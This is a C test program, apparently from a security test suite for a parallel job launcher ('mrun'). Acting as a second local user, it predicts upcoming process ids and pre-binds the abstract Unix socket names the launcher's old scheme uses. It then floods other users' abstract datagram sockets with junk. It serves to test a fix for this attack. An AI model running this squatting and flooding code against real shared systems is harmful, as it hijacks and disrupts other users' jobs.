/* sec_bells.c — a second local user attacks the shm doorbells of jobs (issue 9, attack 3).
 * Run as the stranger:  sec_bells PARENT WINDOW SECONDS
 * 1. Squats: binds the abstract names the old scheme gives doorbells, @rmp.mrun-<pid>.<rank>,
 *    for the WINDOW pids after the last one the kernel handed out and ranks 0..7; then prints
 *    "bells: ready" (the test starts its job only then).
 * 2. Floods: finds the mrun whose parent is PARENT, then, until it exits or SECONDS pass, lists
 *    the abstract datagram sockets of /proc/net/unix that are not its own (abstract names have
 *    no permissions: anyone can see and address them) and sends each a stream of junk datagrams.
 * Last line: "bells: D datagram(s) to T socket(s), R refused, F queue full". Exit 0 unless the
 * attacker itself failed (1). */
#include <fcntl.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#include "sec_common.h"

#define RANKS 8
#define MAX_TARGETS 256

static ino_t *own;   /* inodes of the squatting sockets (not flooded) */
static int nown;

static long read_long(const char *path)
{
    char buf[64];
    FILE *f = fopen(path, "r");
    long v = -1;
    if (f && fgets(buf, sizeof buf, f))
        v = atol(buf);
    if (f)
        fclose(f);
    return v;
}

static socklen_t abstract_addr(struct sockaddr_un *sa, const char *name)
{
    memset(sa, 0, sizeof *sa);
    sa->sun_family = AF_UNIX;
    size_t n = strnlen(name, sizeof sa->sun_path - 2);
    memcpy(sa->sun_path + 1, name, n);
    return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
}

/* Binds @rmp.mrun-<pid>.<rank> for the next `window` pids; returns the number bound. */
static int squat(long window, long *first, long *last)
{
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
    long pid = read_long("/proc/sys/kernel/ns_last_pid"), max = read_long("/proc/sys/kernel/pid_max");
    own = calloc((size_t)(window * RANKS), sizeof *own);
    if (pid < 0 || max < 0 || !own)
        return -1;
    *first = -1;
    for (long k = 0; k < window; k++) {
        if (++pid >= max)
            pid = 300; /* where the kernel wraps (RESERVED_PIDS) */
        if (*first < 0)
            *first = pid;
        *last = pid;
        for (int r = 0; r < RANKS; r++) {
            char name[64];
            struct sockaddr_un sa;
            snprintf(name, sizeof name, "rmp.mrun-%ld.%d", pid, r);
            socklen_t len = abstract_addr(&sa, name);
            int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
            struct stat st;
            if (fd < 0)
                return nown; /* out of descriptors: squat what we have */
            if (bind(fd, (struct sockaddr *)&sa, len) == 0 && fstat(fd, &st) == 0)
                own[nown++] = st.st_ino;
            else
                close(fd);
        }
    }
    return nown;
}

static bool is_own(unsigned long ino)
{
    for (int i = 0; i < nown; i++)
        if (own[i] == (ino_t)ino)
            return true;
    return false;
}

/* Abstract datagram sockets (type 0002) of /proc/net/unix that are not ours. */
static int targets(char names[][108], int max)
{
    FILE *f = fopen("/proc/net/unix", "r");
    if (!f)
        return 0;
    char line[512];
    int n = 0;
    while (n < max && fgets(line, sizeof line, f)) {
        unsigned type;
        unsigned long ino;
        char path[108];
        if (sscanf(line, "%*s %*s %*s %*s %x %*s %lu %107s", &type, &ino, path) == 3 &&
            type == 2 && path[0] == '@' && !is_own(ino))
            memcpy(names[n++], path + 1, 107);
    }
    fclose(f);
    return n;
}

static void flood(long mrun, double until)
{
    static char names[MAX_TARGETS][108], seen[MAX_TARGETS][108];
    int nseen = 0;
    long sent = 0, refused = 0, full = 0;
    int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    unsigned char junk[4096];
    for (size_t i = 0; i < sizeof junk; i++)
        junk[i] = (unsigned char)(i * 131 + 7);
    const size_t sizes[] = {0, 1, 8, 64, 4096};
    while (fd >= 0 && sec_alive(mrun) && sec_now() < until) {
        int n = targets(names, MAX_TARGETS);
        for (int i = 0; i < n; i++) {
            bool known = false;
            for (int j = 0; j < nseen && !known; j++)
                known = strcmp(seen[j], names[i]) == 0;
            if (!known && nseen < MAX_TARGETS)
                memcpy(seen[nseen++], names[i], 108);
            struct sockaddr_un sa;
            socklen_t len = abstract_addr(&sa, names[i]);
            for (size_t k = 0; k < 64; k++) {
                ssize_t rc = sendto(fd, junk, sizes[k % 5], 0, (struct sockaddr *)&sa, len);
                if (rc >= 0)
                    sent++;
                else if (errno == EAGAIN || errno == EWOULDBLOCK)
                    full++;
                else
                    refused++;
            }
        }
        sec_sleep_ms(2);
    }
    for (int j = 0; j < nseen; j++)
        sec_say("bells: flooded @%s", seen[j]);
    sec_say("bells: %ld datagram(s) to %d socket(s), %ld refused, %ld queue full", sent, nseen,
            refused, full);
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: %s PARENT WINDOW SECONDS\n", argv[0]);
        return 1;
    }
    long first = 0, last = 0;
    int bound = squat(atol(argv[2]), &first, &last);
    if (bound < 0) {
        sec_say("bells: cannot read the pid counters or allocate");
        return 1;
    }
    sec_say("bells: squatting %d name(s) for pids %ld..%ld", bound, first, last);
    sec_say("bells: ready");
    double until = sec_now() + atof(argv[3]);
    long mrun = sec_wait_mrun(atol(argv[1]), atof(argv[3]));
    if (mrun < 0) {
        sec_say("bells: no mrun started by pid %s", argv[1]);
        return 1;
    }
    bool inside = first <= last ? mrun >= first && mrun <= last : mrun >= first || mrun <= last;
    sec_say("bells: mrun pid %ld %s the squatted window", mrun, inside ? "inside" : "outside");
    flood(mrun, until);
    return 0;
}
